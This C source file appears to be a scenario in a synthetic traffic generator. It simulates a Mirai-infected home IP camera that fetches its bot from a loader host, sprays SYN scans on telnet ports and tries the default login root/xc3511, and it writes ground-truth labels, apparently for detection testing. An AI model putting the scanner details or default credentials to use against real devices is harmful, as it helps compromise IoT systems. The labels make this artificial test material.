/* mirai: a home LAN 192.168.1.0/24 with an IP camera (.50, Linux/BusyBox,
 * TTL 64) that runs a Mirai-family telnet sprayer, modelled on the
 * family's published scanner behaviour:
 *
 * - first the loader: the camera fetches the bot from a public loader
 *   host, either by HTTP (`GET /bins/mirai.arm7` with BusyBox's
 *   `User-Agent: Wget`, an ELF answer) or by TFTP (RRQ `mirai.arm7`), as
 *   the seed picks; no DNS lookup anywhere;
 * - then the raw-socket scanner: one SYN per random public address (random
 *   /8s), no TCP options, the sequence number equal to the target address,
 *   a random window, one fixed source port; 23 for ~85%, 2323 for ~9%, and
 *   in the Hide'n'Seek style 8080 (~3%) and random high ports (~3%); about
 *   80 a second, never retransmitted. ~2.5% of targets refuse (RST/ACK),
 *   ~1% answer SYN-ACK: the camera's kernel, which has no socket on that
 *   port, resets (RST), and for telnet the bot then connects properly and
 *   tries a default login (telnet options, `root` / `xc3511`, "Login
 *   incorrect"), then closes;
 * - its ordinary life beside: NTP to a pool server.
 *
 * Beside it a Windows PC .10 browsing and a phone .20 (TTL 64) making
 * HTTPS page loads; the router .1 answers DNS and ARP. Two minutes. */
#include "office.h"

#define HOME_NET 0xc0a80100u /* 192.168.1.0/24 */
#define HOME_DURATION GEN_US(120)

enum { CAM_LAST = 50, PC_LAST = 10, PHONE_LAST = 20 };

struct home {
	struct office lan;
	struct gen_host cam, pc, phone;
};

static const char elf_head[] = "\x7f" "ELF\x01\x01\x01\x61";

/* HTTP download of the bot by BusyBox wget; returns the time of the end. */
static uint64_t loader_wget(struct gen *g, struct home *h, struct gen_host *srv, uint64_t t)
{
	uint8_t buf[512];
	struct gen_flow f;
	int n;

	gen_flow_init(&f, g, &h->cam, srv, office_port(&h->lan, &h->cam), 80,
		      gen_rng_range(&g->rng, 40000, 180000));
	f.cwin = 5840;
	t = gen_flow_open(g, &f, t);
	n = snprintf((char *)buf, sizeof(buf),
		     "GET /bins/mirai.arm7 HTTP/1.1\r\nHost: %u.%u.%u.%u\r\nUser-Agent: Wget\r\n"
		     "Connection: close\r\n\r\n",
		     srv->ip[0], srv->ip[1], srv->ip[2], srv->ip[3]);
	t = gen_flow_send(g, &f, true, buf, n > 0 ? (size_t)n : 0, t + 200);
	n = snprintf((char *)buf, sizeof(buf),
		     "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\n"
		     "Content-Length: 78212\r\nConnection: close\r\n\r\n");
	if (n > 0) {
		memcpy(buf + n, elf_head, 8);
		t = gen_flow_send(g, &f, false, buf, (size_t)n + 8, t + 3000);
	}
	t = gen_flow_send(g, &f, false, NULL, 78212 - 8, t + 500);
	return gen_flow_close(g, &f, false, t + 400);
}

/* TFTP read of the bot (RFC 1350): RRQ to 69, DATA from a new port,
 * each block ACKed. */
static uint64_t loader_tftp(struct gen *g, struct home *h, struct gen_host *srv, uint64_t t)
{
	static const char file[] = "mirai.arm7";
	uint8_t msg[4 + 512];
	uint16_t cport = office_port(&h->lan, &h->cam);
	uint16_t sport = (uint16_t)gen_rng_range(&g->rng, 32768, 60999);
	uint32_t rtt = gen_rng_range(&g->rng, 40000, 180000);
	size_t len = 78212, off = 0;
	struct gen_pkt p;

	msg[0] = 0, msg[1] = 1;
	memcpy(msg + 2, file, sizeof(file));
	memcpy(msg + 2 + sizeof(file), "octet", 6);
	gen_pkt_udp(&p, &h->cam, srv, cport, 69, msg, 2 + sizeof(file) + 6);
	gen_emit(g, t, &p);
	t += rtt;
	for (uint16_t blk = 1;; blk++) {
		size_t k = len - off > 512 ? 512 : len - off;

		msg[0] = 0, msg[1] = 3;
		put16(msg + 2, blk);
		if (blk == 1) {
			memcpy(msg + 4, elf_head, 8);
			memcpy(msg + 12, g->filler, k - 8);
		} else {
			memcpy(msg + 4, g->filler + off % 16384, k);
		}
		gen_pkt_udp(&p, srv, &h->cam, sport, cport, msg, 4 + k);
		gen_emit(g, t, &p);
		msg[1] = 4;
		gen_pkt_udp(&p, &h->cam, srv, cport, sport, msg, 4);
		gen_emit(g, t + 300, &p);
		t += rtt + 300;
		off += k;
		if (k < 512)
			return t;
	}
}

/* After a telnet target answered the raw SYN: a real connection and one
 * default login tried. */
static void brute(struct gen *g, struct home *h, struct gen_host *dst, uint16_t port,
		  uint32_t rtt, uint64_t t)
{
	static const uint8_t will[] = {0xff, 0xfd, 0x01, 0xff, 0xfd, 0x1f, 0xff, 0xfb, 0x01,
				       0xff, 0xfb, 0x03};
	static const uint8_t wont[] = {0xff, 0xfc, 0x01, 0xff, 0xfc, 0x1f, 0xff, 0xfe, 0x01,
				       0xff, 0xfe, 0x03};
	static const char *const lines[][2] = {
		{"login: ", "root\r\n"},
		{"Password: ", "xc3511\r\n"},
	};
	struct gen_flow f;

	gen_flow_init(&f, g, &h->cam, dst, office_port(&h->lan, &h->cam), port, rtt);
	f.cwin = 5840;
	t = gen_flow_open(g, &f, t);
	t = gen_flow_send(g, &f, false, will, sizeof(will), t + 2000);
	t = gen_flow_send(g, &f, true, wont, sizeof(wont), t + 300);
	for (size_t i = 0; i < WW_ARRAY_LEN(lines); i++) {
		t = gen_flow_send(g, &f, false, (const uint8_t *)lines[i][0], strlen(lines[i][0]),
				  t + 5000);
		t = gen_flow_send(g, &f, true, (const uint8_t *)lines[i][1], strlen(lines[i][1]),
				  t + 400);
	}
	t = gen_flow_send(g, &f, false, (const uint8_t *)"\r\nLogin incorrect\r\nlogin: ", 26,
			  t + gen_rng_range(&g->rng, 300000, 1500000));
	gen_flow_close(g, &f, true, t + 300);
}

static void scanner(struct gen *g, struct home *h, uint64_t t, uint64_t end)
{
	uint16_t sport = (uint16_t)gen_rng_range(&g->rng, 1024, 65535);
	bool first = true;

	for (; t < end; t += gen_rng_range(&g->rng, 5000, 20000)) {
		struct gen_host dst;
		struct gen_tcp tcp;
		struct gen_pkt p;
		uint32_t ip = gen_rng_public_ipv4(&g->rng), r = gen_rng_below(&g->rng, 1000);
		uint32_t rtt = gen_rng_range(&g->rng, 30000, 300000);
		uint16_t port = r < 850 ? 23 : r < 940 ? 2323 : r < 970 ? 8080
				: (uint16_t)gen_rng_range(&g->rng, 1024, 65535);

		office_outside(g, &h->lan, &dst, ip);
		memset(&tcp, 0, sizeof(tcp));
		tcp.sport = sport, tcp.dport = port;
		tcp.seq = ip;
		tcp.flags = GEN_TCP_SYN;
		tcp.win = (uint16_t)gen_rng_next(&g->rng);
		gen_pkt_tcp(&p, &h->cam, &dst, &tcp);
		if (first)
			gen_mark(g, "first_scan", "192.168.1.50");
		first = false;
		gen_emit(g, t, &p);
		r = gen_rng_below(&g->rng, 1000);
		if (r < 25) {
			tcp.sport = port, tcp.dport = sport;
			tcp.seq = 0, tcp.ack = ip + 1, tcp.win = 0;
			tcp.flags = GEN_TCP_RST | GEN_TCP_ACK;
			gen_pkt_tcp(&p, &dst, &h->cam, &tcp);
			gen_emit(g, t + rtt, &p);
		} else if (r < 35) {
			uint32_t iss = (uint32_t)gen_rng_next(&g->rng);

			tcp.sport = port, tcp.dport = sport;
			tcp.seq = iss, tcp.ack = ip + 1, tcp.win = 14600;
			tcp.flags = GEN_TCP_SYN | GEN_TCP_ACK;
			tcp.synopt = true;
			gen_pkt_tcp(&p, &dst, &h->cam, &tcp);
			gen_emit(g, t + rtt, &p);
			/* the kernel has no socket on sport: a bare RST */
			memset(&tcp, 0, sizeof(tcp));
			tcp.sport = sport, tcp.dport = port;
			tcp.seq = ip + 1;
			tcp.flags = GEN_TCP_RST;
			gen_pkt_tcp(&p, &h->cam, &dst, &tcp);
			gen_emit(g, t + rtt + 40, &p);
			if ((port == 23 || port == 2323) && t + GEN_US(15) < end)
				brute(g, h, &dst, port, rtt, t + rtt + GEN_MS(20));
		}
	}
}

/* NTP client request (mode 3) to a pool server and its answer. */
static void ntp(struct gen *g, struct home *h, uint64_t t)
{
	uint8_t msg[48];
	struct gen_host srv;
	struct gen_pkt p;
	uint16_t port = office_port(&h->lan, &h->cam);

	office_outside(g, &h->lan, &srv, gen_rng_public_ipv4(&g->rng));
	memset(msg, 0, sizeof(msg));
	msg[0] = 0x23;                  /* LI 0, version 4, mode 3 */
	gen_rng_bytes(&g->rng, msg + 40, 8);
	gen_pkt_udp(&p, &h->cam, &srv, port, 123, msg, sizeof(msg));
	gen_emit(g, t, &p);
	msg[0] = 0x24, msg[1] = 2;      /* mode 4, stratum 2 */
	gen_pkt_udp(&p, &srv, &h->cam, 123, port, msg, sizeof(msg));
	gen_emit(g, t + gen_rng_range(&g->rng, 20000, 90000), &p);
}

ww_rc gen_scn_mirai(struct gen *g, FILE *truth)
{
	struct home *h = ww_calloc(1, sizeof(*h));
	struct gen_host loader;
	bool tftp;
	uint64_t t;
	unsigned nth;
	ww_rc rc;

	if (!h) {
		gen_error("out of memory");
		return WW_ERR_NOMEM;
	}
	office_lan_init(&h->lan, HOME_NET);
	office_lan_host(&h->lan, g, &h->cam, CAM_LAST, false, false);
	h->cam.ttl = 64;
	h->lan.eph[CAM_LAST] = (uint16_t)gen_rng_range(&g->rng, 49500, 60000);
	office_lan_host(&h->lan, g, &h->pc, PC_LAST, false, false);
	office_lan_host(&h->lan, g, &h->phone, PHONE_LAST, false, false);
	h->phone.ttl = 64;

	ntp(g, h, GEN_MS(300));
	office_outside(g, &h->lan, &loader, gen_rng_public_ipv4(&g->rng));
	tftp = gen_rng_chance(&g->rng, 500);
	t = GEN_US(3) + gen_rng_below(&g->rng, 1000000);
	t = tftp ? loader_tftp(g, h, &loader, t) : loader_wget(g, h, &loader, t);
	scanner(g, h, t + GEN_MS(800) + gen_rng_below(&g->rng, 400000), HOME_DURATION - GEN_MS(50));
	ntp(g, h, GEN_US(64) + gen_rng_below(&g->rng, 1000000));

	nth = 0;
	for (t = GEN_MS(900); t < HOME_DURATION - GEN_US(15);
	     t += gen_rng_range(&g->rng, 4000000, 20000000))
		office_page_load(g, &h->lan, &h->pc, nth++, t);
	nth = 0;
	for (t = GEN_MS(2500); t < HOME_DURATION - GEN_US(15);
	     t += gen_rng_range(&g->rng, 6000000, 30000000))
		office_page_load(g, &h->lan, &h->phone, nth++, t);
	office_chatter_host(g, &h->lan, &h->pc, true);

	rc = gen_truth_row(truth, "192.168.1.50", "infected",
			   tftp ? "IP camera: tftp-loaded Mirai-family bot spraying SYNs to random "
				  "public addresses on 23/2323/8080/high ports"
				: "IP camera: wget-loaded Mirai-family bot spraying SYNs to random "
				  "public addresses on 23/2323/8080/high ports");
	if (!rc)
		rc = gen_truth_row(truth, "192.168.1.1", "normal", "home router, DNS forwarder");
	if (!rc)
		rc = gen_truth_row(truth, "192.168.1.10", "normal", "Windows PC: DNS then HTTP/HTTPS");
	if (!rc)
		rc = gen_truth_row(truth, "192.168.1.20", "normal", "phone: DNS then HTTP/HTTPS");
	free(h);
	return rc;
}
